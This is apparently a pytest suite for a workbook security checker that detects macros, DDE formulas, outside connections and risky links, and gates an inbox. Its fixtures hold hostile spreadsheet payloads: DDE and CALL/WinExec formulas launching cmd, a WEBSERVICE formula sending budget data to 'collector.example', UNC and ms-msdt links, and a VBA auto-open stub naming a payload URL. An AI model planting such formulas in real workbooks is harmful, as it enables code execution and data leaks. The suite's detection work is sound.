"""SEC: what in a workbook can run code, reach out or hide content. Every kind is built into a real package by test
code (tests/sec_fixtures.py) and found with its code and place; our own workbooks raise nothing; ``update`` and the
HTML report put these findings first; ``check --select SEC`` works as an inbox gate; the real macro and link files
of the corpus are reported when it is given."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest

from xl_campaign.app.check import check_file, check_paths
from xl_campaign.core.rules import run_rules
from xl_campaign.io.reader import read_plan

from . import hostile
from . import sec_fixtures as S
from .conftest import WORKBOOK_DIR, libreoffice_convert

Found = list[tuple[str, str | None, str | None]]


def sec(path: Path, lang: str = "en") -> Found:
    """(code, sheet, cell) of the SEC findings of the workbook at ``path``."""
    return [(f.code, f.sheet, f.cell) for f in check_file(path, select=["SEC"], lang=lang).findings]


def built(tmp_path: Path, name: str, change: Callable[[hostile.Package], None] | None = None,
          book: Callable[[object], None] | None = None) -> Path:
    """The example campaign (template writer), edited with openpyxl (``book``) and then part by part."""
    path = hostile.campaign(tmp_path / name)
    if book is not None:
        import openpyxl

        wb = openpyxl.load_workbook(path)
        book(wb)
        wb.save(path)
    if change is not None:
        S.edit(path, change)
    return path


def cell(sheet: str, ref: str, value: object) -> Callable[[object], None]:
    def edit(wb: object) -> None:
        wb[sheet][ref] = value  # type: ignore[index]
    return edit


# --- every kind, with its code and place ---------------------------------------------------------------------------

FORMULAS: dict[str, tuple[str, Found]] = {
    "dde": ("=cmd|' /C calc'!A0", [("SEC001", "Tasks", "N4")]),
    "dde-quoted-app": ("=1+'MSEXCEL'|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
                       [("SEC001", "Tasks", "N4")]),
    "ddeauto": ('=DDEAUTO("cmd","/c calc")', [("SEC001", "Tasks", "N4")]),
    "call": ('=CALL("kernel32","WinExec","JCJ","calc.exe",0)', [("SEC001", "Tasks", "N4")]),
    "register": ('=REGISTER.ID("kernel32","WinExec","JCJ")', [("SEC001", "Tasks", "N4")]),
    "exec": ('=EXEC("calc.exe")', [("SEC001", "Tasks", "N4")]),
    "webservice": ('=_xlfn.WEBSERVICE("https://collector.example/?b="&Budget!J13)', [("SEC005", "Tasks", "N4")]),
    "filterxml": ('=_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://rates.example/today"),"//rate")',
                  [("SEC005", "Tasks", "N4")]),  # one finding: FILTERXML reads what WEBSERVICE fetched
    "lowercase": ('=webservice("http://example.com/x")', [("SEC005", "Tasks", "N4")]),
    "image": ('=_xlfn.IMAGE("https://pixel.example/t.png")', [("SEC005", "Tasks", "N4")]),
    "rtd": ('=RTD("feed.server",,"price")', [("SEC005", "Tasks", "N4")]),
    "hyperlink-script": ('=HYPERLINK("javascript:alert(1)","Open")', [("SEC011", "Tasks", "N4")]),
    "hyperlink-share": ('=HYPERLINK("\\\\203.0.113.9\\share\\plan.lnk","Plan")', [("SEC011", "Tasks", "N4")]),
    # no finding: web and mail links, words inside text, ordinary formulas, FILTERXML over a cell's text
    "hyperlink-web": ('=HYPERLINK("https://example.com/plan","Plan")', []),
    "hyperlink-mail": ('=HYPERLINK("mailto:ops@example.com","Mail")', []),
    "text-only": ('="call(me) or cmd|x!A1"', []),
    "filterxml-alone": ('=_xlfn.FILTERXML(B4,"//a")', []),
    "sum": ("=SUM(Budget!D4:D8)", []),
}


@pytest.mark.parametrize("kind", sorted(FORMULAS))
def test_formulas_that_run_or_reach_out(kind: str, tmp_path: Path) -> None:
    formula, expected = FORMULAS[kind]
    assert sec(built(tmp_path, "f.xlsx", book=cell("Tasks", "N4", formula))) == expected


def test_a_formula_on_a_hidden_sheet_is_found_and_the_sheet_named(tmp_path: Path) -> None:
    def hidden(wb: object) -> None:
        ws = wb.create_sheet("calc")  # type: ignore[attr-defined]
        ws["B7"] = "=cmd|' /C calc'!A0"
        ws.sheet_state = "hidden"

    assert sec(built(tmp_path, "h.xlsx", book=hidden)) == [("SEC001", "calc", "B7"), ("SEC013", "calc", "B7")]


def test_formulas_of_conditional_formats_and_defined_names(tmp_path: Path) -> None:
    def rule(wb: object) -> None:
        from openpyxl.formatting.rule import FormulaRule

        wb["Tasks"].conditional_formatting.add(  # type: ignore[index]
            "C6:C9", FormulaRule(formula=['LEN(_xlfn.WEBSERVICE("https://cf.example/"))>0']))

    assert sec(built(tmp_path, "cf.xlsx", book=rule)) == [("SEC005", "Tasks", "C6")]
    named = built(tmp_path, "name.xlsx", lambda p: S.add_defined_name(p, "Feed", "cmd|'/c calc'!A0"))
    findings = check_file(named, select=["SEC"], lang="en").findings
    assert [(f.code, f.cell) for f in findings] == [("SEC001", None)]
    assert '"Feed"' in findings[0].message


def test_dde_link_part(tmp_path: Path) -> None:
    findings = check_file(built(tmp_path, "dde.xlsx", S.dde_link), select=["SEC"], lang="en").findings
    assert [(f.code, f.severity.value) for f in findings] == [("SEC001", "error")]
    assert '"cmd"' in findings[0].message and "xl/externalLinks/externalLink1.xml" in findings[0].message


@pytest.mark.libreoffice
def test_formulas_as_libreoffice_writes_them(tmp_path: Path) -> None:
    """LibreOffice saves DDE() as written and an unknown WEBSERVICE in lower case: both are still found."""
    fods = tmp_path / "lo.fods"
    cells = "".join(f'<table:table-cell table:formula="of:={formula}"/>' for formula in (
        "DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)", "WEBSERVICE(&quot;http://example.com/x&quot;)",
        "HYPERLINK(&quot;file:///C:/Users/Public/run.bat&quot;;&quot;click&quot;)"))
    fods.write_text('<?xml version="1.0" encoding="UTF-8"?>\n<office:document xmlns:office="urn:oasis:names:tc:'
                    'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                    'office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
                    '<office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-row>'
                    f"{cells}</table:table-row></table:table></office:spreadsheet></office:body></office:document>",
                    encoding="utf-8")
    xlsx = libreoffice_convert(fods, tmp_path / "out")
    assert sec(xlsx) == [("SEC001", "Sheet1", "A1"), ("SEC005", "Sheet1", "B1"), ("SEC011", "Sheet1", "C1")]


def test_vba_that_runs_on_open_is_an_error_with_its_procedures_and_calls(tmp_path: Path) -> None:
    path = built(tmp_path, "auto.xlsm", S.with_vba(S.vba_project(S.AUTO_OPEN)))
    for lang in ("en", "zh"):
        findings = check_file(path, select=["SEC"], lang=lang).findings
        assert [(f.code, f.severity.value) for f in findings] == [("SEC002", "error")]
        message = findings[0].message
        assert "Module1.Auto_Open" in message and "ThisWorkbook.Workbook_Open" in message
        assert "Shell" in message and "CreateObject" in message and "https://payload.example/a.exe" in message
    assert findings[0].value == "Module1.Auto_Open, ThisWorkbook.Workbook_Open"


def test_vba_without_auto_run_is_a_warning(tmp_path: Path) -> None:
    """xlwings' quickstart workbook, made by Excel: one module whose procedure runs only when called."""
    findings = check_file(built(tmp_path, "quick.xlsm", S.with_vba(S.xlwings_vba())), select=["SEC"],
                          lang="en").findings
    assert [(f.code, f.severity.value) for f in findings] == [("SEC003", "warning")]
    assert "Module1" in findings[0].message


def test_a_vba_project_that_cannot_be_read_counts_as_one_that_runs(tmp_path: Path) -> None:
    path = built(tmp_path, "broken.xlsm", S.with_vba(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600))
    findings = check_file(path, select=["SEC"], lang="en").findings
    assert [f.code for f in findings] == ["SEC002"] and "could not be analysed" in findings[0].message


def test_an_add_in_is_checked_for_its_code(tmp_path: Path) -> None:
    path = built(tmp_path, "tools.xlam", S.with_vba(S.xlwings_vba()))
    report = check_paths([str(tmp_path)], jobs=0, select=["SEC"], lang="en")
    assert [(Path(r.path).name, [f.code for f in r.findings]) for r in report.files] == [("tools.xlam", ["SEC003"])]
    assert path.exists()


def test_macro_sheet_very_hidden_with_auto_open_and_the_rest_still_read(tmp_path: Path) -> None:
    path = built(tmp_path, "xlm.xlsm", S.macro_sheet)
    assert sec(path) == [("SEC004", "Macro1", None), ("SEC001", "Macro1", "A1")]
    message = check_file(path, select=["SEC004"], lang="en").findings[0].message
    assert "very hidden" in message and "_xlnm.Auto_Open" in message
    plan = read_plan(path)  # python-calamine refuses macro sheets: the workbook is read without them
    assert len(plan.tasks) == 16 and "Macro1" not in plan.sheet_names


def test_outside_connections(tmp_path: Path) -> None:
    share = built(tmp_path, "link.xlsx", S.external_workbook("file:///\\\\fileserver\\finance\\Budget2024.xlsx"))
    found = check_file(share, select=["SEC"], lang="en").findings
    assert [f.code for f in found] == ["SEC006"] and "network share" in found[0].message
    connections = check_file(built(tmp_path, "conn.xlsx", S.connections), select=["SEC"], lang="en").findings
    web, database = connections
    assert (web.code, database.code) == ("SEC007", "SEC007")
    assert "https://data.example/export.csv" in web.message and "when the workbook opens" in web.message
    assert "Daily KPI" in web.message
    assert "hunter2" not in database.message + str(database.value) and "PWD=***" in database.message
    assert "stores a password" in database.message
    query = check_file(built(tmp_path, "pq.xlsx", S.power_query), select=["SEC"], lang="en").findings
    assert [f.code for f in query] == ["SEC008"]
    assert '"Rates"' in query[0].message and "Web.Contents https://rates.example/today" in query[0].message
    assert "File.Contents \\\\fileserver\\plans\\old.xlsx" in query[0].message


def test_objects_controls_and_links(tmp_path: Path) -> None:
    packaged = check_file(built(tmp_path, "pkg.xlsx", S.packaged_file("Review", "invoice.pdf.js")), select=["SEC"],
                          lang="en").findings
    assert [(f.code, f.sheet) for f in packaged] == [("SEC009", "Review")] and '"invoice.pdf.js"' in packaged[0].message
    assert sec(built(tmp_path, "ole.xlsx", S.embedded_workbook("Review"))) == [("SEC009", "Review", None)]
    assert sec(built(tmp_path, "ax.xlsx", S.activex_button("Tasks"))) == [("SEC010", "Tasks", None)]
    shape = built(tmp_path, "shape.xlsx", S.shape_link("Tasks", "file:///C:/Users/Public/run.bat"))
    assert sec(shape) == [("SEC011", "Tasks", None)]
    assert sec(built(tmp_path, "web-shape.xlsx", S.shape_link("Tasks", "https://example.com/"))) == []


@pytest.mark.parametrize(("target", "expected"), [
    ("\\\\203.0.113.9\\share\\plan.lnk", "SEC011"), ("file:///C:/Windows/System32/cmd.exe", "SEC011"),
    ("ms-msdt:/id PCWDiagnostic", "SEC011"), ("..\\..\\payload.exe", "SEC011"),
    ("https://example.com/plan", None), ("mailto:ops@example.com", None),
    ("campaign.xlsx#'Tasks'!A1", None), ("../2024/plan.xlsm", None),  # what update --out and rollup write
])
def test_cell_hyperlinks(target: str, expected: str | None, tmp_path: Path) -> None:
    def link(wb: object) -> None:
        wb["Tasks"]["N5"].hyperlink = target  # type: ignore[index]

    assert sec(built(tmp_path, "l.xlsx", book=link)) == ([(expected, "Tasks", "N5")] if expected else [])


def test_very_hidden_sheet_is_information(tmp_path: Path) -> None:
    def very_hidden(wb: object) -> None:
        ws = wb.create_sheet("data_bak")  # type: ignore[attr-defined]
        ws["A1"] = '=_xlfn.WEBSERVICE("https://x.example/")'
        ws.sheet_state = "veryHidden"

    findings = check_file(built(tmp_path, "vh.xlsx", book=very_hidden), select=["SEC"], lang="en").findings
    assert [(f.code, f.severity.value, f.sheet) for f in findings] == [
        ("SEC012", "info", "data_bak"), ("SEC005", "warning", "data_bak")]
    assert "holds 1 formula that run" in findings[0].message


# --- our own workbooks raise nothing -------------------------------------------------------------------------------

def test_our_workbooks_raise_no_security_finding(tmp_path: Path) -> None:
    from xl_campaign.app.rollup import rollup_paths, write_portfolio
    from xl_campaign.app.update import update_workbook

    committed = sorted(WORKBOOK_DIR.glob("*.xlsx"))
    assert len(committed) == 4
    for path in committed:
        assert sec(path) == [], path.name
    updated = tmp_path / "updated.xlsx"
    shutil.copy(WORKBOOK_DIR / "example_zh.xlsx", updated)
    update_workbook(updated, keep_backups=0)
    assert sec(updated) == []
    source = tmp_path / "source.xlsm"
    shutil.copy(WORKBOOK_DIR / "example_en.xlsx", source)
    update_workbook(source, out=str(tmp_path / "companion.xlsx"))  # links back to source.xlsm
    assert sec(tmp_path / "companion.xlsx") == []
    folder = tmp_path / "campaigns"
    folder.mkdir()
    for path in committed:
        shutil.copy(path, folder / path.name)
    portfolio = tmp_path / "portfolio.xlsx"
    write_portfolio(rollup_paths([str(folder)], jobs=0, lang="en"), str(portfolio), "en")
    assert sec(portfolio) == []


# --- update and the report put them first ------------------------------------------------------------------------

def _risky_campaign(tmp_path: Path) -> Path:
    def edit(wb: object) -> None:
        wb["Budget"]["L4"] = '=_xlfn.WEBSERVICE("https://collector.example/?b="&J13)'  # type: ignore[index]
        wb["Tasks"]["N5"].hyperlink = "\\\\203.0.113.9\\share\\plan.lnk"  # type: ignore[index]
        wb["Budget"]["D5"] = "tbd"  # an error finding (BUD003), listed after the security warnings

    return built(tmp_path, "risky.xlsx", book=edit)


def test_update_lists_security_findings_first_and_leaves_the_users_cells_alone(tmp_path: Path) -> None:
    import openpyxl

    from xl_campaign.app.update import update_workbook

    path = _risky_campaign(tmp_path)
    result = update_workbook(path, lang="en", keep_backups=0)
    wb = openpyxl.load_workbook(path)
    assert wb["Budget"]["L4"].value == '=_xlfn.WEBSERVICE("https://collector.example/?b="&J13)'
    assert wb["Tasks"]["N5"].hyperlink.target == "\\\\203.0.113.9\\share\\plan.lnk"
    issues = wb["Issues"]
    codes = [issues.cell(row, 3).value for row in range(5, issues.max_row + 1)]
    assert sorted(codes[:2]) == ["SEC005", "SEC011"] and len(codes) == len(result.findings)
    assert not any(code.startswith("SEC") for code in codes[2:])
    assert issues.cell(5, 2).value == "Warning" and issues.cell(7, 2).value == "Error"


def test_update_of_a_workbook_with_macros_refuses_and_its_companion_lists_them_first(tmp_path: Path) -> None:
    import openpyxl

    from xl_campaign.app.update import UpdateRefused, update_workbook

    path = built(tmp_path, "auto.xlsm", S.with_vba(S.xlwings_vba()))
    before = path.read_bytes()
    with pytest.raises(UpdateRefused) as refused:
        update_workbook(path, lang="en", keep_backups=0)
    assert refused.value.kind == "would-lose" and path.read_bytes() == before
    companion = tmp_path / "companion.xlsx"
    update_workbook(path, out=str(companion), lang="en")
    assert openpyxl.load_workbook(companion)["Issues"].cell(5, 3).value == "SEC003"
    assert path.read_bytes() == before


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_report_shows_security_findings_first(lang: str, tmp_path: Path) -> None:
    from xl_campaign.render.html import write_report

    out = tmp_path / "report.html"
    write_report(str(_risky_campaign(tmp_path)), str(out), lang=lang)
    page = out.read_text(encoding="utf-8")
    security = page.index('id="security"')
    assert security < page.index('class="cards"') < page.index('id="findings"')
    block = page[security:page.index("</section>", security)]
    assert "SEC005" in block and "SEC011" in block and "DATE0" not in block
    assert ("会运行代码或访问外部" if lang == "zh" else "what can run code") in block
    table = page[page.index('id="findings"'):]
    assert table.index("SEC005") < table.index("DATE0")


def test_the_report_of_a_clean_workbook_has_no_security_section(tmp_path: Path) -> None:
    from xl_campaign.render.html import write_report

    out = tmp_path / "clean.html"
    write_report(str(WORKBOOK_DIR / "example_en.xlsx"), str(out))
    assert 'id="security"' not in out.read_text(encoding="utf-8")


# --- the inbox gate --------------------------------------------------------------------------------------------------

def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "xl_campaign.cli", *args], capture_output=True, text=True,
                          timeout=300)


def test_check_select_sec_is_an_inbox_gate(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(WORKBOOK_DIR / "example_zh.xlsx", inbox / "agency.xlsx")
    clean = cli("check", str(inbox), "--select", "SEC", "--format", "github")
    assert clean.returncode == 0 and clean.stdout.strip() == "", clean.stdout + clean.stderr
    built(inbox, "kol.xlsx", book=cell("Tasks", "B4", "=cmd|' /C calc'!A0"))
    hostile.encrypted_xlsx(inbox / "locked.xlsx")  # nothing in it can be looked at: it must not pass
    gate = cli("check", str(inbox), "--select", "SEC", "--format", "github")
    assert gate.returncode == 1, gate.stderr
    lines = gate.stdout.strip().splitlines()
    assert any(line.startswith("::error") and "kol.xlsx" in line and "SEC001" in line for line in lines), lines
    assert any(line.startswith("::error") and "locked.xlsx" in line and "XF007" in line for line in lines), lines
    assert not any("agency.xlsx" in line for line in lines)
    ignored = cli("check", str(inbox), "--select", "SEC", "--ignore", "XF007", "--format", "json")
    assert {Path(f["path"]).name for f in json.loads(ignored.stdout)["files"] if f["findings"]} == {"kol.xlsx"}


def test_the_moved_code_xf020_still_selects_and_documents_sec006(tmp_path: Path) -> None:
    path = hostile.xxe_in_schema(tmp_path / "maps.xlsx")
    selected = json.loads(cli("check", str(path), "--select", "XF020", "--format", "json").stdout)
    assert selected["summary"]["by_code"] == {"SEC006": 1}
    ignored = json.loads(cli("check", str(path), "--select", "SEC", "--ignore", "XF020", "--format", "json").stdout)
    assert ignored["summary"]["by_code"] == {}
    page = cli("rule", "XF020", "--lang", "en")
    assert page.returncode == 0 and "SEC006" in page.stdout and "external-reference" in page.stdout


def test_a_plain_workbook_is_checked_without_importing_oletools(tmp_path: Path) -> None:
    """olevba costs ~0.13 s to import: only a workbook that holds a VBA project pays for it."""
    macro = built(tmp_path, "m.xlsm", S.with_vba(S.xlwings_vba()))
    probe = ("import sys\nfrom xl_campaign.app.check import check_file\n"
             "check_file(sys.argv[1]); print('oletools.olevba' in sys.modules)\n")
    plain = subprocess.run([sys.executable, "-c", probe, str(WORKBOOK_DIR / "example_en.xlsx")],
                           capture_output=True, text=True, check=True)
    with_vba = subprocess.run([sys.executable, "-c", probe, str(macro)], capture_output=True, text=True, check=True)
    assert (plain.stdout.strip(), with_vba.stdout.strip()) == ("False", "True")


# --- the real-world corpus ---------------------------------------------------------------------------------------

# Files of the corpus and a SEC code each must carry (macros, macro sheets, links, objects, controls, connections).
CORPUS_KINDS = {
    "poi/SimpleMacro.xlsm": "SEC003", "poi/mv-calculator-final-2-20-2013.xlsm": "SEC002",
    "poi/xlmmacro.xlsm": "SEC004", "poi/64420.xlsm": "SEC004", "poi/46535.xlsx": "SEC006",
    "poi/56169.xlsx": "SEC007", "poi/bug64512_embed.xlsx": "SEC009", "poi/45540_form_Footer.xlsx": "SEC010",
    "poi/53734.xlsx": "SEC011", "poi/customIndexedColors.xlsx": "SEC012",
    "bad-inputs/xxe_in_schema.xlsx": "SEC006",
}


@pytest.mark.slow
def test_the_corpus_reports_how_many_files_carry_each_kind(corpus: Path, tmp_path: Path) -> None:
    run = subprocess.run([sys.executable, "-m", "xl_campaign.cli", "check", str(corpus), "--select", "SEC",
                          "--format", "json", "--jobs", "2"], capture_output=True, text=True, timeout=900)
    assert "Traceback" not in run.stderr and run.stderr == ""
    report = json.loads(run.stdout)
    files = {str(Path(f["path"]).relative_to(corpus)): f for f in report["files"]}
    carrying = Counter(code for f in report["files"] for code in {x["code"] for x in f["findings"]})
    print("\nfiles carrying each SEC kind:", dict(sorted((c, n) for c, n in carrying.items() if c.startswith("SEC"))))
    for name, code in CORPUS_KINDS.items():
        assert code in {x["code"] for x in files[name]["findings"]}, name
    assert not {"XF016", "XF017", "XF018"} & set(report["summary"]["by_code"])
    # files the checker cannot open keep their XF error under --select SEC (a gate must not pass them)
    assert {x["code"] for x in files["bad-inputs/enc_pw_secret.xlsx"]["findings"]} == {"XF007"}
    packaged = next(x for x in files["poi/bug64512_embed.xlsx"]["findings"] if x["code"] == "SEC009")
    assert ".pdf" in packaged["message"]


def test_rules_on_a_plan_without_notes_find_nothing() -> None:
    plan = read_plan(WORKBOOK_DIR / "template_en.xlsx")
    assert plan.security_notes == [] and run_rules(plan, select=["SEC"]) == []
    with zipfile.ZipFile(WORKBOOK_DIR / "template_en.xlsx") as archive:
        assert not [n for n in archive.namelist() if "vba" in n.lower() or "macro" in n.lower()]
